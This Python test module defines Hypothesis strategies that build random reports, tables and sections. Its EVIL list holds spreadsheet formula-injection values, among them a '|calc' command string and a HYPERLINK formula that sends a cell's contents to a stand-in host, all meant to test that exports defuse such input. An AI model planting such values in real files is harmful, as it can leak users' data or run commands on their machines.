"""Random reports for properties: any shape, any words that a person or an enemy might type."""

from decimal import Decimal

from hypothesis import strategies as st

from reports.shape import Cell, Product, Report, Section, Status, Table, Unit

EVIL = (
    "=1+1", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")", "+1", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1",
    " =1+1", "'=1+1", "''", "'", "＝1+1", "|calc", "%0A", "a,b", 'a"b', "a;b", "<b>&amp;", "yes\r\nno", "withheld",
    "suppressed", "draft", "12", "0", "not tracked", "_x0041_", "\x00\x07", "é ñ 字 שלום", "​=1+1",
)  # fmt: skip
texts = st.one_of(st.sampled_from(EVIL), st.text(max_size=12))
keys = st.text("abcdefgh.0123456789_-=@'", min_size=1, max_size=8)
numbers = st.decimals(min_value=0, max_value=10**9, places=2).map(lambda n: n if n % 1 else n.quantize(Decimal(1)))
statuses = st.sampled_from(list(Status))


@st.composite
def tables(draw: st.DrawFn, key: str) -> Table:
    unit = draw(st.sampled_from(list(Unit)))
    rows = tuple((k, draw(texts)) for k in draw(st.lists(keys, min_size=1, max_size=5, unique=True)))
    columns = tuple((k, draw(texts)) for k in draw(st.lists(keys | st.just(""), min_size=1, max_size=4, unique=True)))
    values = texts if unit in (Unit.TEXT, Unit.TICKS) else numbers
    cells = {
        (r, c): Cell(r, c, draw(st.none() | values), draw(statuses)) for r, _row in rows for c, _column in columns
    }  # fmt: skip
    return Table(
        key, draw(texts), draw(texts), unit, draw(texts), "K", draw(st.booleans()), rows, columns, cells,
        draw(st.booleans()), draw(texts),
    )  # fmt: skip


@st.composite
def reports(draw: st.DrawFn) -> Report:
    sections, count = [], 0
    for key in draw(st.lists(keys, min_size=1, max_size=3, unique=True)):
        made = []
        for _ in range(draw(st.integers(0, 3))):
            count += 1
            made.append(draw(tables(f"t{count}")))
        gate = draw(st.sampled_from(["", *EVIL]))
        sections.append(
            Section(key, draw(texts), draw(texts), tuple(made), gate, draw(st.sampled_from([True, False, None])))
        )
    return Report(
        draw(keys), draw(keys), draw(texts), "2026-01-01/2026-12-31", draw(texts), draw(texts), draw(keys),
        draw(st.sampled_from(list(Product))), tuple(sections), draw(st.sampled_from(["", *EVIL])), draw(st.integers(0, 3)),
        tuple(draw(st.lists(texts, max_size=2))),
    )  # fmt: skip
